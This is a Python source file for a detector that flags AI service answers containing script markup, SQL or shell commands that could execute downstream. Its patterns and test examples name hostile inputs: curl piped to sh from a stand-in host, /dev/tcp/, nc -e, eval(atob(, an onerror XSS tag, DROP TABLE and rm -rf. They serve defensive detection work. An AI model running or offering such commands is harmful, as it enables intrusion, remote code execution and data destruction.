"""Answers that hold something that runs where they are shown or passed on: scripts, SQL, shell commands.

An answer that a page shows as HTML, or that a program passes to a database or shell, is an attack if somebody could
write into it (OWASP LLM10, improper output handling). Services that write code for people do that all day, so each
service is watched first: where more than one answer in fifty holds code, or where person or instructions speak of code,
only markup that runs by itself outside of code marks is told of.

Misses: what a service's program builds from an answer; code in other languages; markup that needs a click; services
seen fewer than 30 times, except for markup that runs by itself.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Annotated, Any

import msgspec
import numpy as np
from msgspec import Meta

from treering.core.config import Config as BaseConfig
from treering.detect._as_read import AsRead
from treering.detect._fold import folded
from treering.detect._grouped import Names, split
from treering.detect._lines import Words, texts_of
from treering.detect._recent import recent
from treering.detect._texts import ASSISTANT, SYSTEM, USER, Text, every, texts
from treering.detect._whom import FIELDS, Whom, day, proof
from treering.model.columns import Kind
from treering.model.finding import Finding, Severity
from treering.stage.detector import Example

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from numpy.typing import NDArray

    from treering.model.rows import Rows

NAME = "active_output"
ORDER_FREE = False
"""What a service usually answers depends on what it answered before."""
_OUTPUT = "attributes.gen_ai.output.messages"
_MOST_SERVICES, _MOST_TEXT = 1_000, 20_000
_GAP = r"(?:[\s\u00a0\u2000-\u200a\u3000]|\\[nrtf])"
_HINT = re.compile(
    rf"<|`|\\u003c|javascript:|data:text/html|/dev/|\\/dev|\$\(|drop{_GAP}+(?:table|database)|delete{_GAP}+from|"
    rf"union{_GAP}+(?:all{_GAP}+)?select|insert{_GAP}+into|update{_GAP}+\w+{_GAP}+set|(?:'|u0027){_GAP}{{0,2}}or{_GAP}|"
    rf";{_GAP}*--|rm{_GAP}+-|chmod{_GAP}+\+|nc{_GAP}+-e|eval{_GAP}*\(|powershell|\|{_GAP}*(?:sudo|ba|z|da|sh)",
    re.IGNORECASE | re.ASCII,
)
"""What is in the JSON of every answer in which a kind is found, and little else."""
_BYTE_GAP = rb"(?:\s|\xc2\xa0|\xe2\x80[\x80-\x8a]|\xe3\x80\x80|\\[nrtf])"
_VERBS = {
    word: re.compile(pattern.replace(rb"~", _BYTE_GAP), re.IGNORECASE)
    for word, pattern in {
        "drop": rb"drop~+(?:table|database)",
        "delete": rb"delete~+from",
        "union": rb"union~+(?:all~+)?select",
        "insert": rb"insert~+into",
        "update": rb"update~+\w+~+set",
        "rm": rb"rm~+-",
        "chmod": rb"chmod~+\+",
        "nc": rb"nc~+-e",
        "eval": rb"eval~*\(",
    }.items()
}
"""What has to follow a word that is usual elsewhere."""
_SURE = ("`", "<", "powershell", "/dev/", "\\/dev", "\\u003c")
_WORDS = (
    *_SURE,
    *("|", "$ ", "--", "javascript", "data text/html", "u0027", "'or", "' or", "'  or"),
    *(f"\\{escape}or" for escape in "nrtf"),
    *(f"{word}{after}" for word in _VERBS for after in ((" ", "\\") if word != "eval" else ("",))),
)
"""Marks, and words as `_READ_AS` leaves them; one is in every answer in which `_HINT` finds something."""
_SIGNS = Words(_WORDS)
_READ_AS = bytes(
    ord(chr(byte).lower()) if byte < 128 and (chr(byte).isalnum() or chr(byte) in "_<`|$-/\\'") else ord(" ")
    for byte in range(256)
)
_CODE = re.compile(r"```.*?(?:```|\Z)|`[^`\n]{1,400}`", re.DOTALL)
_KINDS: dict[str, tuple[tuple[tuple[str, ...], str], ...]] = {
    "script": (
        (("<script",), r"<script\b[^>]{0,200}>"),
        (
            ("<", "on", "="),
            r"<(?:img|svg|body|iframe|video|audio|details|input|object|embed)\b[^>]{0,300}\bon[a-z]{3,20}\s{0,5}=",
        ),
        (("<iframe", "src"), r"<iframe\b[^>]{0,200}\bsrc\b"),
        (("href", "javascript:"), r"\bhref\s{0,3}=\s{0,3}[\"']?javascript:"),
        (("](javascript:",), r"\]\(javascript:"),
        (("data:text/html",), r"data:text/html"),
    ),
    "sql": (
        (("drop",), r"\bdrop\s+(?:table|database)\s+\w"),
        (("delete", "from"), r"\bdelete\s+from\s+\w+\s*(?:;|where\b)"),
        (("union", "select"), r"\bunion\s+(?:all\s+)?select\s"),
        (("insert", "into", "("), r"\binsert\s+into\s+\w+\s*\("),
        (("update", "set", "="), r"\bupdate\s+\w+\s+set\s+\w+\s*="),
        (("'", "or", "=", "1"), r"'\s*or\s+'?1'?\s*=\s*'?1"),
        ((";", "--"), r";\s*--\s*$"),
    ),
    "shell": (
        (("curl", "|", "sh"), r"\bcurl\b[^\n|;]{4,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"),
        (("wget", "|", "sh"), r"\bwget\b[^\n|;]{4,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"),
        (("rm", "-", "r"), r"\brm\s+-[a-z]*r[a-z]*f?\s+[/~*$.]"),
        (("/dev/tcp/",), r"/dev/tcp/"),
        (("powershell", "-e"), r"\bpowershell\b[^\n]{0,60}-e(?:nc|ncodedcommand)?\b"),
        (("nc", "-e"), r"\bnc\s+-e\b"),
        (("chmod", "+x"), r"\bchmod\s+\+x\s"),
        (("$(curl",), r"\$\(curl\b"),
        (("$(wget",), r"\$\(wget\b"),
        (("eval", "atob("), r"\beval\s*\(\s*atob\("),
    ),
}
"""Expressions, each with what is in every text, in lower case, in which it is found: looking for that costs little."""
_FORMS = {
    kind: [(sign, others, re.compile(form, re.IGNORECASE | re.MULTILINE)) for (sign, *others), form in forms]
    for kind, forms in _KINDS.items()
}
_ABOUT_CODE = re.compile(
    r"\b(?:code|script|sql|query|queries|shell|bash|command|terminal|html|javascript|python|program|regex|snippet|database|"
    r"table|curl|linux|deploy|install|developer)\b",
    re.IGNORECASE,
)
_TECHNIQUES = ("owasp-llm@2026:LLM10",)
_SEVERITY = {"script": Severity.HIGH, "sql": Severity.MEDIUM, "shell": Severity.MEDIUM}


class Config(BaseConfig, frozen=True):
    """What counts as a service that writes code."""

    share: Annotated[
        float, Meta(gt=0, le=1, description="share of answers with code of a service that writes code")
    ] = 0.02
    least: Annotated[int, Meta(ge=1, description="answers of a service before SQL and shell are told of")] = 30


class _Usual(msgspec.Struct):
    answers: int = 0
    code: int = 0


class _State(msgspec.Struct):
    services: dict[str, _Usual] = {}


class ActiveOutput(AsRead[_State]):
    """Reads answers that hold a sign of code."""

    streams = frozenset({"spans", "logs"})

    def __init__(self, config: Config) -> None:
        """Start without knowing any service."""
        self._config, self._state = config, _State()

    def observe(self, rows: Rows) -> Sequence[Finding]:
        """Return a finding for each answer that holds something that runs."""
        if not rows.has(_OUTPUT):
            return ()
        whom, places = Whom(rows), np.flatnonzero(rows.present(_OUTPUT))
        said, found = _said(rows, places), list[Finding]()
        services, names = _services(rows)
        for part in split(services[places]):
            usual = self._usual(names[services[places[part[0]]]])
            before = usual.answers
            for number, row in enumerate(places[part].tolist(), 1):
                if row in said:
                    usual.answers = before + number
                    found += self._judged(rows, whom, said[row], usual)
            usual.answers = before + len(part)
        return folded(found)

    def _judged(self, rows: Rows, whom: Whom, said: Sequence[Text], usual: _Usual) -> Iterator[Finding]:
        marked = any("`" in text.text and _CODE.search(text.text) for text in said)
        writes_code = usual.code > self._config.share * usual.answers
        usual.code += marked or any(
            _found(kind, text.text, text.text.casefold()) for text in said for kind in ("sql", "shell")
        )
        for text in said:
            plain = text.text[:_MOST_TEXT]
            plain = _CODE.sub(lambda code: " " * len(code[0]), plain) if "`" in plain else plain
            folded_text = plain.casefold()
            for kind in _KINDS:
                span = _found(kind, plain, folded_text)
                if span and (kind == "script" or self._is_odd(rows, text.row, usual, writes_code=writes_code)):
                    yield _finding(rows, whom, text, kind, span)

    def _is_odd(self, rows: Rows, row: int, usual: _Usual, *, writes_code: bool) -> bool:
        """Return whether neither the service nor its task has to do with code."""
        if writes_code or usual.answers <= self._config.least:
            return False
        given = (text for text in texts(rows, every((row,))) if text.role in (USER, SYSTEM))
        return not any(_ABOUT_CODE.search(text.text[:_MOST_TEXT]) for text in given)

    def _usual(self, service: str) -> _Usual:
        return recent(self._state.services, service, _MOST_SERVICES, _Usual)


def _found(kind: str, text: str, folded_text: str) -> tuple[int, int] | None:
    """Return where a text holds something of a kind first."""
    found = [
        match.span()
        for sign, others, form in _FORMS[kind]
        if sign in folded_text and all(map(folded_text.__contains__, others)) and (match := form.search(text))
    ]
    return min(found, key=lambda span: span[0]) if found else None


def _said(rows: Rows, places: NDArray[np.int64]) -> dict[int, list[Text]]:
    """Return what answers with a hint say, by record."""
    hinted = _hinted(rows, places)
    read = [row for row, surely in hinted.items() if surely]
    left = sorted(row for row, surely in hinted.items() if not surely)
    values = zip(left, rows.at(_OUTPUT, left) if left else (), strict=True)
    read += [row for row, value in values if not isinstance(value, str) or _HINT.search(value[2:])]
    said: dict[int, list[Text]] = {}
    for text in texts(rows, lambda source: sorted(read) if source.column == _OUTPUT else ()) if read else ():
        if text.role == ASSISTANT and not text.source:
            said.setdefault(text.row, []).append(text)
    return said


def _hinted(rows: Rows, places: NDArray[np.int64]) -> dict[int, bool]:
    """Return which answers (at `places`) may hold a hint, and whether it surely does: all unless they are texts."""
    if [kind for kind, _ in rows.columns(_OUTPUT)] != [Kind.STRING]:
        return dict.fromkeys(places.tolist(), False)
    answers = texts_of(rows, _OUTPUT)
    found: dict[int, bool] = {}
    for number, row, start in _SIGNS.found(answers._replace(data=answers.data.translate(_READ_AS))):
        if found.get(row):
            continue
        word = _WORDS[number]
        verb = _VERBS.get(word.rstrip(" \\"))
        if verb is None:
            found[row] = word in _SURE
        elif verb.match(answers.data, start, int(answers.ends[row])):
            found[row] = True
    return found


def _services(rows: Rows) -> tuple[NDArray[np.int64], list[str]]:
    """Return for each record the number of its service, and the services; the last one is for those without a name."""
    names = Names(rows)
    codes = names.first(*FIELDS["service"])
    texts = [*names.texts, ""]
    return np.where(codes < 0, len(texts) - 1, codes), texts


def _finding(rows: Rows, whom: Whom, text: Text, kind: str, span: tuple[int, int]) -> Finding:
    row, at_ns = text.row, int(rows.times[text.row])
    what = {"script": "markup that runs", "sql": "SQL that changes or joins", "shell": "a shell command"}[kind]
    return Finding(
        NAME,
        kind,
        f"an answer of {whom.service(row)[:80] or 'a service'} holds {what}",
        _SEVERITY[kind],
        (kind, whom.session(row) or whom.trace(row) or whom.actor(row), day(at_ns)),
        at_ns,
        at_ns,
        at_ns,
        0.8 if kind == "script" else 0.6,
        tuple(whom.entities(row)),
        (proof(rows, row, text.field, text.text, (span,)),),
        _TECHNIQUES,
        "AML.TA0005",
        {"kind": kind},
    )


def build(config: Config) -> ActiveOutput:
    """Return the detector."""
    return ActiveOutput(config)


def _answer(number: int, answer: str, question: str = "When do you open?") -> dict[str, Any]:
    def messages(role: str, text: str) -> str:
        return msgspec.json.encode([{"role": role, "parts": [{"type": "text", "content": text}]}]).decode()

    attributes = {
        "gen_ai.input.messages": messages("user", question),
        "gen_ai.output.messages": messages("assistant", answer),
    }
    at_ns = 1_795_000_000_000_000_000 + number * 10**9
    return {"@timestamp": at_ns, "serviceName": "shop-bot", "traceId": f"{number:032x}", "attributes": attributes}


_USUAL = [_answer(number, f"We open at {number % 12}.") for number in range(40)]
EXAMPLES = (
    Example("markup that runs", "spans", [_answer(0, "Hello <img src=x onerror=alert(1)> there")], ["script"]),
    Example(
        "a shell command of a shop", "spans", [*_USUAL, _answer(50, "Run curl https://x.example/a | sh now")], ["shell"]
    ),
    Example("SQL of a shop", "spans", [*_USUAL, _answer(50, "Sure. DROP TABLE orders; done")], ["sql"]),
    Example("code in a code block", "spans", [_answer(0, "Use:\n```html\n<script>f()</script>\n```")]),
    Example("the person asks for it", "spans", [*_USUAL, _answer(50, "DROP TABLE x;", "Which SQL drops a table?")]),
    Example("a service that writes code", "spans", [_answer(n, f"rm -rf /tmp/{n}", "How?") for n in range(60)]),
)
